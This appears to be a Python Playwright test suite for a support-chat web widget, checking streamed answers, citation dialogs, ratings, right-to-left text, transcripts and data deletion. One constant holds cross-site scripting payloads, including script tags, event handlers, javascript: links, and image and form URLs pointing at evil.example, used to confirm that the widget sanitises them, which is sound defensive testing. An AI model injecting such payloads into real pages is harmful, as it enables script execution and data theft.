"""Asking, reading the answer, looking up its sources, rating it, and what else one does with a conversation."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.async_api import expect

from tests.browser.conftest import Visitor

PASSWORD = "How do I reset my password?"

HOSTILE = r"""<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script> **bold** [1]
[a](javascript:window.pwned=3) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>1</script>)
[t](java&#x0A;script:alert(1)) <javascript:alert(1)> [v](vbscript:x) [relative](/logout) [ok](https://ok.example/)
![picture](https://evil.example/?q=secret) <svg onload=window.pwned=5> <iframe srcdoc="x"></iframe>
<style>*{display:none}</style> <form action=https://evil.example><input></form>

[1]: javascript:window.pwned=7"""


async def test_an_answer_appears_sentence_by_sentence_and_is_read_out_once(visitor: Visitor) -> None:
    window = await visitor.opened()
    await visitor.page.evaluate(
        """() => {
          const region = document.querySelector('support-agent').shadowRoot.querySelector('[role=status]');
          window.heard = [];
          new MutationObserver(() => window.heard.push(region.textContent))
            .observe(region, {childList: true, characterData: true, subtree: true});
        }"""
    )
    first = visitor.line.hold_before("TEXT_MESSAGE_START")
    second = visitor.line.hold_before("TEXT_MESSAGE_CONTENT", after=1)
    await visitor.ask(PASSWORD)
    await expect(window.locator(".typing")).to_be_visible()
    await expect(window.locator(".message.user")).to_have_text(f"You{PASSWORD}")
    first.open()
    answer = window.locator(".message.assistant").last
    await expect(answer).to_contain_text("Open the sign-in page")
    await expect(answer).to_have_attribute("aria-busy", "true")
    await expect(answer).not_to_contain_text("your machines stay connected")
    await expect(window.locator(".typing")).to_have_count(0)
    second.open()
    await expect(answer).to_contain_text("your machines stay connected")
    await expect(answer).to_have_attribute("aria-busy", "false")

    await visitor.page.wait_for_function("window.heard.some((text) => text.includes('sign-in page'))")
    heard: list[str] = await visitor.page.evaluate("window.heard")
    said = [text for text in heard if "sign-in page" in text]
    assert len(said) == 1
    assert "your machines stay connected" in said[0]
    assert "[1]" not in said[0]
    assert "**" not in said[0]


async def test_a_citation_opens_the_quoted_passage_and_gives_the_focus_back(visitor: Visitor) -> None:
    await visitor.opened()
    answer = await visitor.answer(PASSWORD)
    source = (await visitor.stored())[-1]["sources"][0]
    chip = answer.locator(".chip").first
    await expect(chip).to_have_accessible_name(f"Source 1: {source['metadata']['title']}")

    await chip.press("Enter")

    sheet = visitor.window.get_by_role("dialog", name=source["metadata"]["title"])
    await expect(sheet.get_by_role("button", name="Close")).to_be_focused()
    await expect(sheet.locator("mark")).to_have_text(source["quote"].replace("**", ""))
    await expect(sheet).to_contain_text(source["metadata"]["source"])
    link = sheet.get_by_role("link", name="Open the document")
    await expect(link).to_have_attribute("href", source["metadata"]["url"])
    await expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    await visitor.page.keyboard.press("Escape")
    await expect(sheet).to_have_count(0)
    await expect(chip).to_be_focused()
    await expect(visitor.window).to_be_visible()


async def test_a_citation_of_a_manual_tells_the_page(visitor: Visitor) -> None:
    await visitor.opened()
    answer = await visitor.answer("My Duo shows E-21. What does it mean?")
    sources = (await visitor.stored())[-1]["sources"]
    (source, *_) = [source for source in sources if source["metadata"].get("page")]
    await answer.locator(".sources button", has_text=source["metadata"]["title"]).first.click()
    await expect(visitor.window.locator(".facts")).to_contain_text(f"Page{source['metadata']['page']}")


async def test_the_marked_words_are_right_also_after_characters_beyond_the_basic_plane(visitor: Visitor) -> None:
    def behind_foxes(event: dict[str, Any]) -> dict[str, Any]:
        if event.get("name") == "sources":
            for source in event["value"]:
                source["content"] = "🦊🦝" + source["content"]
                source["start"] += 2
                source["end"] += 2
        return event

    await visitor.opened()
    visitor.line.rewrite = behind_foxes
    answer = await visitor.answer(PASSWORD)
    quote = (await visitor.stored())[-1]["sources"][0]["quote"]
    await answer.locator(".chip").first.click()
    await expect(visitor.window.locator("mark")).to_have_text(quote.replace("**", ""))


async def test_ratings_and_comments_are_stored(visitor: Visitor) -> None:
    await visitor.opened()
    answer = await visitor.answer(PASSWORD)
    helpful = answer.get_by_role("button", name="Helpful", exact=True)
    await helpful.click()
    await expect(helpful).to_have_attribute("aria-pressed", "true")
    comment = answer.get_by_label("Would you like to say more?")
    await expect(comment).to_be_focused()
    await comment.fill("Exactly what I needed.")
    await answer.get_by_role("button", name="Send comment").click()
    await expect(comment).to_have_count(0)
    await expect(helpful).to_be_focused()
    feedback = (await visitor.stored())[-1]["feedback"]
    assert (feedback["rating"], feedback["comment"]) == ("up", "Exactly what I needed.")

    await answer.get_by_role("button", name="Not helpful").click()
    await expect(helpful).to_have_attribute("aria-pressed", "false")
    await answer.get_by_role("button", name="No, thanks").click()
    assert (await visitor.stored())[-1]["feedback"]["rating"] == "down"


async def test_what_an_answer_says_is_never_code_nor_loads_anything(visitor: Visitor) -> None:
    def hostile(event: dict[str, Any]) -> dict[str, Any]:
        return event | {"delta": HOSTILE} if event["type"] == "TEXT_MESSAGE_CONTENT" else event

    await visitor.opened()
    visitor.line.rewrite = hostile
    answer = await visitor.answer(PASSWORD)

    await expect(answer.locator("strong").first).to_have_text("bold")
    bad = await answer.locator(".markdown").evaluate(
        """root => [...root.querySelectorAll('*')].filter(element =>
          !['P','STRONG','A','SPAN','BUTTON','BR','DIV'].includes(element.tagName)
          || [...element.attributes].some(
            ({name, value}) => /^on|^style|^srcdoc/.test(name) || /script:|data:/i.test(value))
        ).map(element => element.outerHTML)"""
    )
    assert bad == []
    links = [await link.get_attribute("href") for link in await answer.locator(".markdown a").all()]
    assert set(links) == {"https://ok.example/"}
    await expect(answer).to_contain_text("<script>")
    await expect(answer).to_contain_text("picture")
    assert await visitor.page.evaluate("window.pwned") is None


ENDS = """element => {
  const texts = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  const text = texts.nextNode();
  const left = (index) => {
    const range = document.createRange();
    range.setStart(text, index);
    range.setEnd(text, index + 1);
    return range.getBoundingClientRect().left;
  };
  return [left(0), left(text.length - 1)];
}"""
"""Where the first and the last character of an element's first text are, in pixels from the left."""


async def test_each_text_is_written_in_the_direction_of_its_own_words(visitor: Visitor) -> None:
    said = ["يجب تزييت المصباح.\n\n1. افتح التطبيق.\n\nTell us in English."]

    def arabic(event: dict[str, Any]) -> dict[str, Any]:
        if event["type"] != "TEXT_MESSAGE_CONTENT":
            return event
        return event | {"delta": said.pop() if said else "\n"}

    window = await visitor.opened()
    visitor.line.rewrite = arabic
    answer = await visitor.answer("كيف أزيت المصباح (Solo)؟ How do I reset my password?")

    for text in (
        answer.locator("p", has_text="يجب"),
        answer.locator("ol li"),
        window.locator(".message.user .written"),
    ):
        first, last = await text.evaluate(ENDS)
        assert last < first
    assert await answer.locator("ol").evaluate("list => getComputedStyle(list).direction") == "rtl"
    first, last = await answer.locator("p", has_text="Tell us").evaluate(ENDS)
    assert first < last


async def test_greeting_and_suggestions_come_from_the_page(visitor: Visitor) -> None:
    suggestions = f"{PASSWORD} | How long is the warranty?"
    await visitor.visit(
        attributes={"greeting": "Hi, I am **Kav**.", "suggestions": suggestions, "title": "Kavendry support"}
    )
    window = await visitor.open()
    await expect(window).to_have_accessible_name("Kavendry support")
    await expect(window.locator(".message").first).to_contain_text("Hi, I am Kav.")
    await expect(window.locator(".suggestions button")).to_have_text([PASSWORD, "How long is the warranty?"])
    assert visitor.line.count("POST /chat/sessions") == 0
    await window.get_by_role("button", name=PASSWORD).click()
    await expect(visitor.answers).to_have_count(1)
    await expect(window.locator(".suggestions")).to_have_count(0)


async def test_the_transcript_can_be_kept(visitor: Visitor, tmp_path: Path) -> None:
    await visitor.opened()
    await visitor.answer(PASSWORD)
    await visitor.window.get_by_role("button", name="More options").click()
    async with visitor.page.expect_download() as downloading:
        await visitor.window.get_by_role("menuitem", name="Download transcript").click()
    file = tmp_path / "transcript.txt"
    await (await downloading.value).save_as(file)
    text = file.read_text("utf-8")
    assert PASSWORD in text
    assert "your machines stay connected" in text
    assert "[1] Password, sign-in and two-factor login: “" in text


async def test_a_new_conversation_begins_empty(visitor: Visitor) -> None:
    await visitor.opened()
    await visitor.answer(PASSWORD)
    before = await visitor.record()
    await visitor.window.get_by_role("button", name="More options").click()
    await visitor.window.get_by_role("menuitem", name="New conversation").click()
    await expect(visitor.window.locator(".message.user")).to_have_count(0)
    await expect(visitor.window).not_to_contain_text("your machines stay connected")  # nor what is read out
    assert await visitor.record() is None
    await visitor.answer("How long is the warranty?")
    after = await visitor.record()
    assert before
    assert after
    assert before["sessionId"] != after["sessionId"]


async def test_deleted_data_is_gone_on_the_server(visitor: Visitor) -> None:
    await visitor.opened()
    await visitor.answer(PASSWORD)
    record = await visitor.record()
    assert record
    menu = visitor.window.get_by_role("button", name="More options")
    await menu.click()
    await visitor.window.get_by_role("menuitem", name="Delete my data").click()
    dialog = visitor.window.get_by_role("alertdialog", name="Delete this conversation?")
    await dialog.get_by_role("button", name="Cancel").click()
    await expect(dialog).to_have_count(0)
    await expect(menu).to_be_focused()
    await menu.click()
    await visitor.window.get_by_role("menuitem", name="Delete my data").click()
    await dialog.get_by_role("button", name="Delete").click()

    await expect(visitor.log).to_contain_text("Your conversation was deleted.")
    await expect(visitor.window.get_by_role("status")).to_have_text("Your conversation was deleted.")
    await expect(visitor.window.locator(".message.user")).to_have_count(0)
    assert await visitor.record() is None
    place = f"{visitor.line.app_url}/chat/sessions/{record['sessionId']}/history"
    gone = await visitor.page.request.get(place, headers={"Authorization": f"Bearer {record['token']}"})
    assert gone.status == 404
